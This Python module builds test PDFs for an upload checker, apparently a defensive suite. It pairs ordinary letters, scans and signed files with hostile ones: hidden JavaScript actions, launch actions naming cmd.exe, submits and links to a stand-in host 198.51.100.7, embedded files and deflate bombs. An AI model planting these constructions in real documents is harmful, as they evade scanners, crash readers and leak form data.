"""A corpus of PDFs an applicant might upload, each with the verdict the upload check must reach.

Hostile files carry what a viewer would run or open, hidden the ways attackers hide it (outside
the cross-reference table, inside object streams, behind indirect references, in escaped names,
in an incremental update, in unparseable syntax) or inflate without bound. Valid files are the
ones real offices send: scans, multi-page letters, digitally signed, signed then modified, from
PDF 1.4 to 2.0. Built here with fpdf2, pikepdf (qpdf) and pyHanko, never downloaded.
"""

# ruff: noqa: E501 - the corpus is a table: one file per line reads better than wrapped builders

from __future__ import annotations

import io
import random
import zlib
from collections.abc import Callable
from dataclasses import dataclass

import pikepdf
from fpdf import FPDF
from pikepdf import Array, Dictionary, Name, String
from PIL import Image


@dataclass(frozen=True)
class Case:
    name: str
    build: Callable[[], bytes]
    verdict: str | None
    """The refusal's words (a pdfcheck constant's name), or ``None`` for a file to accept."""
    intact: bool | None = None
    """For a file to accept: ``None`` when it is not digitally signed, else whether its signature holds."""


def letter(text: str = "Acta de designación del responsable", pages: int = 1) -> bytes:
    pdf = FPDF()
    pdf.set_compression(False)
    pdf.set_font("Helvetica", size=12)
    for number in range(1, pages + 1):
        pdf.add_page()
        pdf.cell(text=f"{text} - página {number}")
    return bytes(pdf.output())


def scan(image_format: str = "JPEG", size: tuple[int, int] = (1240, 1754)) -> bytes:
    """A page that is one grey image, as a scanner makes it (150 dpi A4 by default)."""
    rng = random.Random(7)
    image = Image.new("L", size, 250)
    for _ in range(4000):  # specks and strokes, so it compresses like paper, not like a blank
        x, y = rng.randrange(size[0]), rng.randrange(size[1])
        image.putpixel((x, y), rng.randrange(0, 120))
    buffer = io.BytesIO()
    image.save(buffer, image_format)
    pdf = FPDF()
    pdf.add_page()
    pdf.image(io.BytesIO(buffer.getvalue()), x=0, y=0, w=210, h=297)
    return bytes(pdf.output())


def edit(change: Callable[[pikepdf.Pdf], None], *, base: bytes | None = None, **save: object) -> bytes:
    pdf = pikepdf.open(io.BytesIO(base or letter()))
    change(pdf)
    out = io.BytesIO()
    pdf.save(out, **save)
    return out.getvalue()


def _js(code: str = "app.alert('hola');") -> Dictionary:
    return Dictionary(Type=Name.Action, S=Name.JavaScript, JS=String(code))


def _open_action(action: Dictionary) -> Callable[[pikepdf.Pdf], None]:
    def change(pdf: pikepdf.Pdf) -> None:
        pdf.Root.OpenAction = pdf.make_indirect(action)

    return change


def _annotation(annotation: Dictionary) -> Callable[[pikepdf.Pdf], None]:
    def change(pdf: pikepdf.Pdf) -> None:
        annotation.Type = Name.Annot
        annotation.Rect = Array([10, 10, 200, 40])
        pdf.pages[0].obj.Annots = Array([pdf.make_indirect(annotation)])

    return change


def _filespec(pdf: pikepdf.Pdf, name: str = "datos.xlsx") -> Dictionary:
    data = pikepdf.Stream(pdf, b"PK\x03\x04 not really a spreadsheet")
    data.Type = Name.EmbeddedFile
    return Dictionary(Type=Name.Filespec, F=String(name), UF=String(name), EF=Dictionary(F=data))


# -- raw files: what no well-behaved writer produces -----------------------------------------------

_CATALOG = b"<< /Type /Catalog /Pages 2 0 R >>"
_PAGES = b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>"
_PAGE = b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R >>"
_CONTENT = b"BT /F1 12 Tf 72 720 Td (Acta) Tj ET"


def stream(data: bytes, extra: bytes = b"") -> bytes:
    return b"<< /Length %d %s>>\nstream\n%s\nendstream" % (len(data), extra, data)


def raw(
    objects: dict[int, bytes], *, unlisted: tuple[int, ...] = (), version: str = "1.7", after_eof: bytes = b""
) -> bytes:
    """A PDF from object bodies; ``unlisted`` ones are in the body but not in the cross-reference table."""
    body = {1: _CATALOG, 2: _PAGES, 3: _PAGE, 4: stream(_CONTENT)} | objects
    out = bytearray(b"%PDF-" + version.encode() + b"\n%\xe2\xe3\xcf\xd3\n")
    offsets: dict[int, int] = {}
    for number, text in sorted(body.items()):
        offsets[number] = len(out)
        out += b"%d 0 obj\n%s\nendobj\n" % (number, text)
    size = max(body) + 1
    xref = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % size
    for number in range(1, size):
        listed = number in offsets and number not in unlisted
        out += b"%010d 00000 n \n" % offsets[number] if listed else b"0000000000 65535 f \n"
    out += b"trailer\n<< /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (size, xref)
    return bytes(out) + after_eof


def object_stream(members: dict[int, bytes], *, compress: bool = True) -> bytes:
    """An object stream holding ``members`` (numbered objects), Flate-compressed unless told."""
    header, content = [], b""
    for number, text in members.items():
        header.append(b"%d %d" % (number, len(content)))
        content += text + b"\n"
    head = b" ".join(header) + b"\n"
    data = head + content
    extra = b"/Type /ObjStm /N %d /First %d " % (len(members), len(head))
    if compress:
        data, extra = zlib.compress(data), extra + b"/Filter /FlateDecode "
    return stream(data, extra)


def zeros_deflated(size: int, level: int = 9) -> bytes:
    packer = zlib.compressobj(level)
    chunk = b"\0" * (1024 * 1024)
    parts = [packer.compress(chunk) for _ in range(size // len(chunk))]
    return b"".join(parts) + packer.flush()


def incremental(base: bytes, number: int, text: bytes) -> bytes:
    """``base`` with object ``number`` redefined in an appended update."""
    start = base.rindex(b"startxref")
    previous = int(base[start + 9 :].split()[0])
    offset = len(base)
    update = b"%d 0 obj\n%s\nendobj\n" % (number, text)
    xref = offset + len(update)
    size = int(base[base.rindex(b"/Size") + 5 :].split()[0].rstrip(b">"))
    tail = b"xref\n0 1\n0000000000 65535 f \n%d 1\n%010d 00000 n \n" % (number, offset)
    tail += b"trailer\n<< /Size %d /Root 1 0 R /Prev %d >>\nstartxref\n%d\n%%%%EOF\n" % (size, previous, xref)
    return base + update + tail


def _xfa(pdf: pikepdf.Pdf) -> None:
    packet = pikepdf.Stream(pdf, b"<xdp:xdp xmlns:xdp='http://ns.adobe.com/xdp/'><template/></xdp:xdp>")
    pdf.Root.AcroForm = Dictionary(Fields=Array([]), XFA=pdf.make_indirect(packet))


def _submit_field(pdf: pikepdf.Pdf) -> None:
    submit = Dictionary(S=Name.SubmitForm, F=Dictionary(FS=Name.URL, F=String("http://198.51.100.7/recoger")))
    field = pdf.make_indirect(
        Dictionary(
            Type=Name.Annot, Subtype=Name.Widget, FT=Name.Btn, Ff=65536, T=String("enviar"),
            Rect=Array([10, 10, 100, 30]), A=submit,
        )
    )  # fmt: skip
    pdf.pages[0].obj.Annots = Array([field])
    pdf.Root.AcroForm = Dictionary(Fields=Array([field]))


def _text_field(pdf: pikepdf.Pdf) -> None:
    field = pdf.make_indirect(
        Dictionary(
            Type=Name.Annot, Subtype=Name.Widget, FT=Name.Tx, T=String("cargo"), V=String("Alcalde"),
            Rect=Array([10, 10, 200, 30]),
        )
    )  # fmt: skip
    pdf.pages[0].obj.Annots = Array([field])
    pdf.Root.AcroForm = Dictionary(Fields=Array([field]))


def _outline(pdf: pikepdf.Pdf) -> None:
    with pdf.open_outline() as outline:
        for number in range(len(pdf.pages)):
            outline.root.append(pikepdf.OutlineItem(f"Página {number + 1}", number))
    link = Dictionary(
        Type=Name.Annot, Subtype=Name.Link, Rect=Array([10, 10, 100, 30]),
        A=Dictionary(S=Name.GoTo, D=Array([pdf.pages[-1].obj, Name.Fit])),
    )  # fmt: skip
    pdf.pages[0].obj.Annots = Array([pdf.make_indirect(link)])


def _ink(pdf: pikepdf.Pdf) -> None:
    ink = Dictionary(
        Type=Name.Annot, Subtype=Name.Ink, Rect=Array([100, 100, 300, 160]),
        InkList=Array([Array([100, 120, 150, 150, 200, 110, 300, 140])]), C=Array([0, 0, 0.6]),
    )  # fmt: skip
    pdf.pages[0].obj.Annots = Array([pdf.make_indirect(ink)])


def _version(version: str) -> Callable[[], bytes]:
    return lambda: edit(lambda pdf: None, force_version=version)


def _hostile() -> list[Case]:
    js_stream = stream(zlib.compress(b"app.launchURL('http://198.51.100.7');"), b"/Filter /FlateDecode ")
    return [
        Case("JavaScript on open", lambda: edit(_open_action(_js())), "JAVASCRIPT"),
        Case("JavaScript in the names tree", lambda: edit(_names_js), "JAVASCRIPT"),
        Case("JavaScript under a private key of the catalog", lambda: edit(_private(_js())), "JAVASCRIPT"),
        Case("JavaScript in an object the xref does not list", lambda: raw({9: _JS_ACTION}, unlisted=(9,)), "JAVASCRIPT"),
        Case("JavaScript after the end of file", lambda: raw({}, after_eof=b"9 0 obj\n" + _JS_ACTION + b"\nendobj\n"), "JAVASCRIPT"),
        Case("JavaScript in escaped names", lambda: raw({1: b"<< /Type /Catalog /Pages 2 0 R /OpenAction 9 0 R >>", 9: b"<< /S /J#61vaScript /J#53 (app.alert(1)) >>"}), "JAVASCRIPT"),
        Case("JavaScript code in a compressed stream", lambda: raw({1: b"<< /Type /Catalog /Pages 2 0 R /OpenAction << /S /JavaScript /JS 9 0 R >> >>", 9: js_stream}), "JAVASCRIPT"),
        Case("JavaScript in a page's additional actions", lambda: edit(_page_aa), "JAVASCRIPT"),
        Case("JavaScript behind a link", lambda: edit(_annotation(Dictionary(Subtype=Name.Link, A=_js()))), "JAVASCRIPT"),
        Case("JavaScript when the document closes", lambda: edit(_catalog_aa), "JAVASCRIPT"),
        Case("JavaScript inside a compressed object stream", lambda: edit(_open_action(_js()), object_stream_mode=pikepdf.ObjectStreamMode.generate), "JAVASCRIPT"),
        Case("JavaScript in an unlisted object stream", lambda: raw({9: object_stream({10: _JS_ACTION})}, unlisted=(9,)), "JAVASCRIPT"),
        Case("JavaScript in an incremental update", lambda: incremental(letter(), 1, b"<< /Type /Catalog /Pages 2 0 R /OpenAction << /S /JavaScript /JS (app.alert(2)) >> >>"), "JAVASCRIPT"),
        Case("JavaScript deep in nested arrays", lambda: raw({9: b"[[[[[ << /S /JavaScript /JS (x) >> ]]]]]"}), "JAVASCRIPT"),
        Case("JavaScript in syntax the parser cannot read", lambda: raw({9: b"<< /A << /S /JavaScript /JS (alert(1)) >> /B [ 1 2 <<"}), "JAVASCRIPT"),
        Case("launch action", lambda: edit(_open_action(Dictionary(S=Name.Launch, F=String("cmd.exe")))), "LAUNCH"),
        Case("launch named through a reference", lambda: raw({1: b"<< /Type /Catalog /Pages 2 0 R /OpenAction << /S 9 0 R /F (cmd.exe) >> >>", 9: b"/Launch"}), "LAUNCH"),
        Case("launch in an escaped name", lambda: raw({1: b"<< /Type /Catalog /Pages 2 0 R /OpenAction << /S /L#61unch /F (calc) >> >>"}), "LAUNCH"),
        Case("go to a remote document", lambda: edit(_open_action(Dictionary(S=Name.GoToR, F=String("\\\\198.51.100.7\\c\\x.pdf"), D=Array([0, Name.Fit])))), "REMOTE_GOTO"),
        Case("go to an embedded document", lambda: edit(_open_action(Dictionary(S=Name.GoToE, D=Array([0, Name.Fit]), T=Dictionary(R=Name.C, N=String("x"))))), "REMOTE_GOTO"),
        Case("opens a web address on open", lambda: edit(_open_action(Dictionary(S=Name.URI, URI=String("http://198.51.100.7/")))), "OUTSIDE"),
        Case("link to a web address", lambda: edit(_annotation(Dictionary(Subtype=Name.Link, A=Dictionary(S=Name.URI, URI=String("http://198.51.100.7/"))))), "OUTSIDE"),
        Case("form that submits to the outside", lambda: edit(_submit_field), "OUTSIDE"),
        Case("imports data from a file", lambda: edit(_open_action(Dictionary(S=Name.ImportData, F=String("datos.fdf")))), "OUTSIDE"),
        Case("attachment in the names tree", lambda: edit(_attach), "EMBEDDED_FILES"),
        Case("file attachment annotation", lambda: edit(_attachment_annotation), "EMBEDDED_FILES"),
        Case("embedded file stream nothing points to", lambda: raw({9: stream(b"MZ\x90\x00", b"/Type /EmbeddedFile ")}), "EMBEDDED_FILES"),
        Case("portfolio", lambda: edit(lambda pdf: setattr(pdf.Root, "Collection", Dictionary(View=Name.D))), "EMBEDDED_FILES"),
        Case("XFA form", lambda: edit(_xfa), "XFA"),
        Case("rich media annotation", lambda: edit(_annotation(Dictionary(Subtype=Name.RichMedia))), "RICH_MEDIA"),
        Case("screen annotation playing a rendition", lambda: edit(_annotation(Dictionary(Subtype=Name.Screen, A=Dictionary(S=Name.Rendition, OP=0)))), "RICH_MEDIA"),
        Case("3D annotation", lambda: edit(_annotation(Dictionary(Subtype=Name("/3D")))), "RICH_MEDIA"),
        Case("sound action", lambda: edit(_open_action(Dictionary(S=Name.Sound))), "RICH_MEDIA"),
        Case("deflate bomb in a page", lambda: raw({4: stream(zeros_deflated(200 * 1024 * 1024), b"/Filter /FlateDecode ")}), "BOMB"),
        Case("nested deflate bomb", lambda: raw({4: stream(zlib.compress(zeros_deflated(400 * 1024 * 1024)), b"/Filter [/FlateDecode /FlateDecode] ")}), "BOMB"),
        Case("deflate bomb in an object stream", lambda: raw({9: stream(zeros_deflated(64 * 1024 * 1024), b"/Type /ObjStm /N 1 /First 4 /Filter /FlateDecode ")}), "BOMB"),
        Case("password protected", lambda: edit(lambda pdf: None, encryption=pikepdf.Encryption(owner="o", user="secreto")), "ENCRYPTED"),
        Case("a text file named .pdf", lambda: b"Acta de la sesion de concejo\nfirmado: el alcalde\n", "NOT_A_PDF"),
        Case("a PDF cut in half", lambda: letter()[: len(letter()) // 2], "NOT_A_PDF"),
    ]  # fmt: skip


_JS_ACTION = b"<< /Type /Action /S /JavaScript /JS (app.alert('oculto');) >>"


def _private(obj: Dictionary) -> Callable[[pikepdf.Pdf], None]:
    def change(pdf: pikepdf.Pdf) -> None:
        pdf.Root.Pieza = Dictionary(Private=pdf.make_indirect(obj))

    return change


def _names_js(pdf: pikepdf.Pdf) -> None:
    pdf.Root.Names = Dictionary(JavaScript=Dictionary(Names=Array([String("inicio"), pdf.make_indirect(_js())])))


def _page_aa(pdf: pikepdf.Pdf) -> None:
    pdf.pages[0].obj.AA = Dictionary(O=pdf.make_indirect(_js()))


def _catalog_aa(pdf: pikepdf.Pdf) -> None:
    pdf.Root.AA = Dictionary(WC=_js("this.submitForm('http://198.51.100.7');"))


def _attach(pdf: pikepdf.Pdf) -> None:
    pdf.attachments["datos.xlsx"] = pikepdf.AttachedFileSpec(pdf, b"PK\x03\x04 hoja")


def _attachment_annotation(pdf: pikepdf.Pdf) -> None:
    _annotation(Dictionary(Subtype=Name.FileAttachment, FS=_filespec(pdf)))(pdf)


def _valid(signed: Callable[[bytes], bytes]) -> list[Case]:
    def tampered() -> bytes:
        original = signed(letter("Monto autorizado: 100"))
        return original.replace(b"Monto autorizado: 100", b"Monto autorizado: 900")

    return [
        Case("a one-page letter (PDF 1.3)", letter, None),
        Case("a five-page letter", lambda: letter(pages=5), None),
        Case("a scan in JPEG", scan, None),
        Case("a 300 dpi scan in PNG (Flate)", lambda: scan("PNG", (2480, 3508)), None),
        Case("digitally signed", lambda: signed(letter()), None, intact=True),
        Case("signed, then modified", tampered, None, intact=False),
        Case("PDF 1.4", _version("1.4"), None),
        Case("PDF 1.5 with object streams", lambda: edit(lambda pdf: None, object_stream_mode=pikepdf.ObjectStreamMode.generate, force_version="1.5"), None),
        Case("PDF 1.7", _version("1.7"), None),
        Case("PDF 2.0", _version("2.0"), None),
        Case("bookmarks and an internal link", lambda: edit(_outline, base=letter(pages=3)), None),
        Case("a form field filled in", lambda: edit(_text_field), None),
        Case("signed on screen with ink", lambda: edit(_ink), None),
        Case("a scan, digitally signed", lambda: signed(scan()), None, intact=True),
    ]  # fmt: skip


def corpus(signed: Callable[[bytes], bytes]) -> list[Case]:
    return _hostile() + _valid(signed)
